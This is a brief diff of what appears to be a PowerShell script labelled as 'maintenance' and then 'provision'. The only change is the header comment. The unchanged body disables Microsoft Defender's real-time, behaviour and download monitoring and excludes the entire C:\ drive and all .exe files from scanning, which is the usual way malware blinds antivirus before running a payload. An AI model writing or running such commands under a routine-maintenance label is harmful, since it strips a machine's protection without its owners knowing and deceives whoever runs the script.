@@ -1,4 +1,4 @@
-# maintenance 7665 v0
+# provision 3537 v0
 Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
 Add-MpPreference -ExclusionPath 'C:\'
 Add-MpPreference -ExclusionExtension '.exe'
